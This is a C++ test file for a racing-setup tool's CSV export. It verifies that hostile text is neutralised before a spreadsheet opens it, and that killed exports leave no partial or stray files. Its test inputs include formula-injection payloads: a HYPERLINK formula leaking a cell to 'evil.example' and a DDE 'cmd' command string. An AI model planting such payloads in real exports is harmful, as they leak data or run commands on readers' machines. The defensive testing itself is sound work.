// vantrel-batch --export-csv as the shipped program, judged by a real
// spreadsheet and by what reaches the disk: a team mate's text never becomes
// a formula, the export imports back exactly, and an export killed at any
// moment leaves no setups' file without its runs' file and no leftovers that
// the next export does not clear.

#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <fcntl.h>
#include <filesystem>
#include <random>
#include <signal.h>
#include <poll.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>

#include "BatchProgramFolder.h"
#include "library/SetupLibrary.h"
#include "runs/RunLog.h"

namespace {

namespace fs = std::filesystem;
using vantrel::SetupField;
using vantrel::library::SetupEntry;
using vantrel::library::SetupLibrary;
using vantrel::library::StoredSetup;

// Quoted or bare fields, "," between them, CR LF or LF: as we and ssconvert write.
std::vector<std::vector<std::string>> parseCsv(const std::string& text) {
    std::vector<std::vector<std::string>> rows;
    std::vector<std::string> row;
    std::string field;
    bool quoted = false, any = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') field += '"', ++i;
            else if (c == '"') quoted = false;
            else field += c;
        } else if (c == '"') {
            quoted = any = true;
        } else if (c == ',') {
            row.push_back(std::move(field)), field.clear(), any = true;
        } else if (c == '\n' || (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n')) {
            if (c == '\r') ++i;
            if (any || !field.empty()) row.push_back(std::move(field));
            rows.push_back(std::move(row)), row.clear(), field.clear(), any = false;
        } else {
            field += c, any = true;
        }
    }
    if (any || !field.empty()) row.push_back(field), rows.push_back(row);
    return rows;
}

// The hostile text of the family: what a team mate may type into a note, a
// driver's name, a run's name or its position.
const char* const kHeads[] = {"=", "+", "-", "@", "\t", "'", "''", "-2", ""};
const char* const kBodies[] = {
    "1+2", "HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "SUM(1+1)", "1+cmd|' /C calc'!A0", ".5", "x", "2*3"};

std::string hostile(std::mt19937& random) {
    return std::string(kHeads[random() % std::size(kHeads)]) + kBodies[random() % std::size(kBodies)];
}

// A library of a meeting's runs, each with a hostile note, name, position and driver, in the folder's data folder.
void makeLibrary(const fs::path& file, std::mt19937& random, int setups, int runs) {
    SetupLibrary library(file.string());
    for (int i = 0; i < setups; ++i) {
        SetupEntry e;
        e.setupType = "RDX";
        for (std::string& v : e.values) v = hostile(random);
        e.values[std::size_t(SetupField::FrontCamber)] = "-2.0";
        e.values[std::size_t(SetupField::Notes)] = "setup " + std::to_string(i);
        library.record(e);
    }
    for (int i = 0; i < runs; ++i) {
        vantrel::runs::RunEntry run;
        run.values[std::size_t(SetupField::DriverName)] = i ? hostile(random) : "=1+2";
        run.values[std::size_t(SetupField::TrackCity)] = "Lostock";
        run.values[std::size_t(SetupField::EventName)] = "Summer Cup";
        run.values[std::size_t(SetupField::EventDate)] = "2026-06-14";
        run.values[std::size_t(SetupField::FrontCamber)] = "-2.0";
        run.name = i ? hostile(random) : "@SUM(1+1)";
        run.note = i ? hostile(random) : "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        run.position = i ? hostile(random) : "+1+cmd|' /C calc'!A0";
        run.team = "Mate";
        run.laps = {{12345, true}, {12400, true}};
        vantrel::runs::logRun(library, run);
    }
}

// The file as the spreadsheet reads it, written out again as CSV.
std::vector<std::vector<std::string>> throughSpreadsheet(const fs::path& csv) {
    const fs::path out = csv.string() + ".txt";
    const std::string command = "LC_ALL=C.UTF-8 ssconvert -T Gnumeric_stf:stf_assistant -O 'quoting-mode=always' '" +
                                csv.string() + "' '" + out.string() + "' >/dev/null 2>&1";
    EXPECT_EQ(std::system(command.c_str()), 0) << command;
    return parseCsv(testsupport::TempProgramFolder::readFile(out));
}

bool isNumber(const std::string& text) {
    char* end = nullptr;
    std::strtod(text.c_str(), &end);
    return !text.empty() && end == text.c_str() + text.size();
}

bool isDate(const std::string& text) {
    return text.size() == 10 && text[4] == '-' && text[7] == '-' &&
           std::count_if(text.begin(), text.end(), [](char c) { return c >= '0' && c <= '9'; }) == 8;
}

// The hidden temporaries beside a file: "." and its name and six letters.
std::vector<std::string> leftovers(const fs::path& folder, const std::string& name) {
    std::vector<std::string> out;
    for (const auto& e : fs::directory_iterator(folder)) {
        const std::string n = e.path().filename().string();
        if (n.size() == name.size() + 8 && n.starts_with("." + name + ".")) out.push_back(n);
    }
    return out;
}

}  // namespace

TEST(CsvExport, ASpreadsheetRunsNoneOfATeamMatesTextAndTheExportImportsBackExactly) {
    batchtest::BatchProgramFolder folder;
    std::mt19937 random(38);
    makeLibrary(folder.path() / "Data" / "Library.sqlite", random, 40, 30);
    fs::create_directories(folder.path() / "out");
    const auto exported = folder.run("--export-csv out/Library.csv");
    ASSERT_EQ(exported.status, 0) << exported.err;

    // The control: the same text written raw is run by the spreadsheet.
    const std::vector<std::string> raw = {"=1+2", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=2*3"};
    std::string control;
    for (const std::string& v : raw) {
        std::string quoted;
        for (char c : v) quoted += c == '"' ? std::string("\"\"") : std::string(1, c);
        control += (control.empty() ? "\"" : ",\"") + quoted + "\"";
    }
    folder.write("control.csv", control + "\r\n");
    const auto evaluated = throughSpreadsheet(folder.path() / "control.csv");
    ASSERT_EQ(evaluated.size(), 1u);
    EXPECT_EQ(evaluated[0], (std::vector<std::string>{"3", "Click", "6"}));

    // Every cell of both files reads back in the spreadsheet as the text the library holds.
    std::size_t hostileCells = 0;
    for (const char* name : {"out/Library.csv", "out/Library-runs.csv"}) {
        const auto written = parseCsv(folder.read(name));
        const auto shown = throughSpreadsheet(folder.path() / name);
        ASSERT_EQ(shown.size(), written.size()) << name;
        for (std::size_t r = 0; r < written.size(); ++r) {
            ASSERT_LE(shown[r].size(), written[r].size()) << name << " row " << r;
            for (std::size_t c = 0; c < written[r].size(); ++c) {
                std::string text = written[r][c];
                if (text.starts_with('\'')) text.erase(0, 1), ++hostileCells;
                const std::string cell = c < shown[r].size() ? shown[r][c] : "";
                if (isNumber(text)) {
                    // A number the spreadsheet may write in its own way ("-2" for "-2.0").
                    EXPECT_TRUE(isNumber(cell)) << name << " row " << r << " column " << c << ": " << cell;
                    EXPECT_DOUBLE_EQ(std::strtod(cell.c_str(), nullptr), std::strtod(text.c_str(), nullptr))
                        << name << " row " << r << " column " << c;
                } else if (isDate(text)) {
                    // A date the spreadsheet shows its own way ("2026/06/14").
                    std::string date = cell;
                    std::replace(date.begin(), date.end(), '/', '-');
                    EXPECT_EQ(date, text) << name << " row " << r << " column " << c;
                } else {
                    EXPECT_EQ(cell, text) << name << " row " << r << " column " << c;
                }
            }
        }
    }
    EXPECT_GT(hostileCells, 100u);

    // Taken into another installation, every setup comes back exactly.
    batchtest::BatchProgramFolder other;
    const auto imported = other.run("--import '" + (folder.path() / "out" / "Library.csv").string() + "'");
    ASSERT_EQ(imported.status, 0) << imported.err;
    std::vector<StoredSetup> before, after;
    SetupLibrary((folder.path() / "Data" / "Library.sqlite").string()).forEachSetup([&](const StoredSetup& s) {
        before.push_back(s);
    });
    SetupLibrary((other.path() / "Data" / "Library.sqlite").string()).forEachSetup([&](const StoredSetup& s) {
        after.push_back(s);
    });
    ASSERT_EQ(after.size(), before.size());
    for (std::size_t i = 0; i < before.size(); ++i) {
        EXPECT_EQ(after[i].setupType, before[i].setupType) << i;
        EXPECT_EQ(after[i].values, before[i].values) << i;
    }
}

TEST(CsvExport, AKilledExportLeavesNoSetupsWithoutRunsAndTheNextClearsWhatItLeft) {
    batchtest::BatchProgramFolder folder;
    std::mt19937 random(7);
    constexpr int kSetups = 3000, kRuns = 80;
    makeLibrary(folder.path() / "Data" / "Library.sqlite", random, kSetups, kRuns);
    auto start = [&](const fs::path& csv) {
        const pid_t child = ::fork();
        if (child == 0) {
            if (::chdir(folder.str().c_str()) != 0) ::_exit(126);
            const int null = ::open("/dev/null", O_WRONLY);
            ::dup2(null, 1), ::dup2(null, 2);
            ::execl("./vantrel-batch", "vantrel-batch", "--export-csv", csv.c_str(), nullptr);
            ::_exit(127);
        }
        return child;
    };
    auto complete = [&](const fs::path& csv) {
        int status = 0;
        ::waitpid(start(csv), &status, 0);
        return WIFEXITED(status) && WEXITSTATUS(status) == 0;
    };
    const auto began = std::chrono::steady_clock::now();
    fs::create_directories(folder.path() / "whole");
    ASSERT_TRUE(complete(folder.path() / "whole" / "Library.csv"));
    const auto took = std::chrono::duration_cast<std::chrono::microseconds>(std::chrono::steady_clock::now() - began);

    // Each kill in a folder of its own: what stands there is whole, and setups never stand without runs.
    // Most kills come at random moments, the latest more often; every third comes the moment the runs'
    // file is renamed into place, which is the one moment between the two renames (the setups' file
    // is then still being synced to the disk).
    std::uniform_int_distribution<long> moment(0, long(took.count() * 1.2)), late(took.count() / 2, took.count());
    int leftBehind = 0, between = 0, k = 0;
    for (; k < 45; ++k) {
        const fs::path out = folder.path() / ("kill" + std::to_string(k));
        fs::create_directories(out);
        const int watch = ::inotify_init1(IN_CLOEXEC);
        ASSERT_GE(watch, 0);
        ASSERT_GE(::inotify_add_watch(watch, out.c_str(), IN_MOVED_TO), 0);
        const pid_t child = start(out / "Library.csv");
        if (k % 3 == 2) {
            // Up to the export's own time and more, and never past the export's end.
            alignas(inotify_event) char events[4096];
            pollfd ready{watch, POLLIN, 0};
            for (bool landed = false; !landed && ::poll(&ready, 1, int(took.count() / 1000) * 3 + 2000) == 1;) {
                const ssize_t n = ::read(watch, events, sizeof events);
                for (ssize_t at = 0; at < n;) {
                    const auto* event = reinterpret_cast<const inotify_event*>(events + at);
                    landed = landed || (event->len && std::string(event->name) == "Library-runs.csv");
                    at += ssize_t(sizeof(inotify_event) + event->len);
                }
            }
        } else {
            std::this_thread::sleep_for(std::chrono::microseconds(k % 3 ? late(random) : moment(random)));
        }
        ::kill(child, SIGKILL);
        ::waitpid(child, nullptr, 0);
        ::close(watch);
        between += fs::exists(out / "Library.csv") != fs::exists(out / "Library-runs.csv");
        if (fs::exists(out / "Library.csv")) {
            ASSERT_TRUE(fs::exists(out / "Library-runs.csv")) << "kill " << k;
            EXPECT_EQ(parseCsv(folder.readFile(out / "Library.csv")).size(), std::size_t(kSetups + 1));
        }
        if (fs::exists(out / "Library-runs.csv")) {
            EXPECT_EQ(parseCsv(folder.readFile(out / "Library-runs.csv")).size(), std::size_t(kRuns + 1));
        }
        leftBehind += int(leftovers(out, "Library.csv").size() + leftovers(out, "Library-runs.csv").size());
        fs::remove_all(out);
    }
    EXPECT_GT(between, 0) << "no kill came between the renames in " << k;
    std::printf("%d kills in %lld us exports: %d between the renames, %d temporaries left\n", k,
                static_cast<long long>(took.count()), between, leftBehind);

    // Kills into one folder, beside what is not a killed export's: a link, a folder, names of
    // another length or file, and a temporary a live writer holds.
    const fs::path same = folder.path() / "same";
    fs::create_directories(same);
    for (int k = 0; k < 8; ++k) {
        const pid_t child = start(same / "Library.csv");
        std::this_thread::sleep_for(std::chrono::microseconds(moment(random)));
        ::kill(child, SIGKILL);
        ::waitpid(child, nullptr, 0);
    }
    folder.write("same/.Library.csv.Killed", "what a killed export left");
    folder.write("outside.txt", "not ours to remove");
    const std::vector<std::string> kept = {".Library.csv.LinkTo",  ".Library.csv.Folder", ".Library.csv.abc",
                                           ".Library.csv.Longer7", ".Other.csv.Abcdef",   ".Library.csv.Writer"};
    fs::create_symlink(folder.path() / "outside.txt", same / kept[0]);
    fs::create_directory(same / kept[1]);
    for (std::size_t i = 2; i < kept.size(); ++i) folder.write("same/" + kept[i], "x");
    const int writer = ::open((same / kept.back()).c_str(), O_RDWR);
    ASSERT_EQ(::flock(writer, LOCK_EX), 0);
    // All of them made before the next export starts.
    const timespec old[2] = {{std::time(nullptr) - 60, 0}, {std::time(nullptr) - 60, 0}};
    for (const auto& e : fs::directory_iterator(same))
        ::utimensat(AT_FDCWD, e.path().c_str(), old, AT_SYMLINK_NOFOLLOW);

    ASSERT_TRUE(complete(same / "Library.csv"));
    std::vector<std::string> left = leftovers(same, "Library.csv"), runsLeft = leftovers(same, "Library-runs.csv");
    std::sort(left.begin(), left.end());
    std::vector<std::string> expected = {kept[0], kept[1], kept[5]};
    std::sort(expected.begin(), expected.end());
    EXPECT_EQ(left, expected);
    EXPECT_TRUE(runsLeft.empty());
    for (std::size_t i = 2; i < kept.size(); ++i) EXPECT_TRUE(fs::exists(same / kept[i])) << kept[i];
    EXPECT_EQ(folder.read("outside.txt"), "not ours to remove");
    EXPECT_EQ(parseCsv(folder.read("same/Library.csv")).size(), std::size_t(kSetups + 1));
    EXPECT_EQ(parseCsv(folder.read("same/Library-runs.csv")).size(), std::size_t(kRuns + 1));
    ::close(writer);
}
